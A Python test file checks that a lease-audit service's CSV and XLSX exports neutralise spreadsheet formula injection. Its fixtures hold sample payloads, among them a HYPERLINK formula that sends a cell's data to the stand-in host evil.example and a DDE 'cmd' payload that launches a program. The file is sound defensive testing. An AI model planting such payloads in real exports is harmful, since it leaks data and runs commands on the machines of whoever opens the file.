"""Spreadsheet formula injection (issue 14): what people typed never runs as a formula in the
auditors' CSV or XLSX, on the Python path and on PostgreSQL's COPY path alike."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from app.core.spreadsheets import csv_text, neutralise, xlsx_row
from tests.approval.conftest import cast  # noqa: F401  (fixture)
from tests.leases.conftest import (
    apply,
    approve,
    lease_body,
    operate,
    tenant,  # noqa: F401  (fixture)
)

SEARCH = "/api/v1/audit/leases"
PROJECT = '=HYPERLINK("http://evil.example/?x="&J2,"点击查看")'
OPERATOR = "@SUM(1+1)*cmd|' /C calc'!A0"
BUILDING = "+1栋"
UNIT = "-101"
EMPLOYER = "\t=1+1"
TENANT = "=张三"  # masked to "=*三"


@pytest.fixture
def poisoned(cast, tenant, make_org, make_user, login, session):  # noqa: F811
    """Two leases whose project, operator, building, unit, tenant and employer begin with the
    characters a spreadsheet reads as a formula."""
    city = operate(cast, units=2)
    person = tenant(name=TENANT)
    application = apply(city, person)["id"]
    approve(city, application)
    cast.post("developer", "/api/v1/leases", lease_body(city, application, unit=0), expect=201)
    employer = make_org(name="景德镇某陶瓷企业")
    cast.post("developer", "/api/v1/leases", lease_body(
        city, None, unit=1, employer_organization_id=employer.id, start_on="2025-08-01"),
        expect=201)
    session.execute(text("UPDATE project SET name = :n WHERE id = :p"),
                    {"n": PROJECT, "p": city.project_id})
    session.execute(text("UPDATE organization SET name = :n WHERE id = "
                         "(SELECT organization_id FROM project WHERE id = :p)"),
                    {"n": OPERATOR, "p": city.project_id})
    session.execute(text("UPDATE unit SET building = :b, number = '-' || number WHERE project_id = :p"),
                    {"b": BUILDING, "p": city.project_id})
    session.execute(text("UPDATE organization SET name = :n WHERE id = :e"),
                    {"n": EMPLOYER, "e": employer.id})
    return {"client": cast.client, "auditor": login(make_user("auditor")), "person": person}


def cells_of(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows[1:] for cell in row]


def assert_neutralised(rows: list[list[str]]) -> None:
    cells = cells_of(rows)
    assert len(rows) == 3
    for typed in (PROJECT, OPERATOR, BUILDING, UNIT, EMPLOYER):
        assert "'" + typed in cells, typed
    assert "'=*三" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # numbers the service computes stay plain numbers
    row = rows[1]
    assert row[7] == "38.50" and row[13] == "1039.50" and row[14] == "1039.50"


def test_csv_export_neutralises_every_typed_cell(poisoned, session) -> None:
    """On PostgreSQL this export is the database's COPY (``csv_statement``); on SQLite, Python's."""
    response = poisoned["client"].get(f"{SEARCH}.csv", headers=poisoned["auditor"])
    assert response.status_code == 200
    assert_neutralised(list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")))))


def test_csv_export_with_full_id_numbers_neutralises_too(poisoned) -> None:
    """Full 身份证 numbers always take the Python path (they are decrypted there)."""
    response = poisoned["client"].post(f"{SEARCH}/export", headers=poisoned["auditor"], json={
        "include_full_id_numbers": True, "reason": "专项核查"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert_neutralised(rows)
    assert poisoned["person"].id_number in cells_of(rows)


def test_the_auditor_page_download_neutralises_too(poisoned, make_user) -> None:
    from fastapi.testclient import TestClient

    from app.main import app
    from tests.web.conftest import Person

    auditor = Person(TestClient(app, raise_server_exceptions=False))
    auditor.login(make_user("auditor").username)
    body = auditor.get("/auditor/leases.csv?district=昌江区")
    assert_neutralised(list(csv.reader(io.StringIO(body.lstrip("\ufeff")))))


def test_xlsx_export_stores_text_as_strings_never_formulas(poisoned) -> None:
    response = poisoned["client"].get(f"{SEARCH}.xlsx", headers=poisoned["auditor"])
    assert response.status_code == 200
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows())
    values = {cell.value for row in rows for cell in row}
    for typed in (PROJECT, OPERATOR, BUILDING, UNIT, EMPLOYER):
        assert typed in values  # kept exactly as typed: a string cell, not a formula
    for row in rows:
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s", (cell.coordinate, cell.value)
    first = rows[1]
    assert first[7].data_type == "n" and first[13].data_type == "n"  # area, rent: numbers
    assert first[10].is_date  # start_on: a date


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_neutralise(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert next(csv.reader(io.StringIO(csv_text([[value]]))))[0] == "'" + value


def test_neutralise_leaves_other_values_alone() -> None:
    from datetime import date
    from decimal import Decimal

    for value in ("景德镇", "1栋", "", None, Decimal("-1.50"), 3, date(2025, 1, 1), "'=x"):
        assert neutralise(value) == value


def test_xlsx_row_marks_text_as_strings() -> None:
    from openpyxl import Workbook

    sheet = Workbook(write_only=True).create_sheet("x")
    text_cell, number = xlsx_row(sheet, ["=1+1", 5])
    assert text_cell.data_type == "s" and text_cell.value == "=1+1" and number == 5
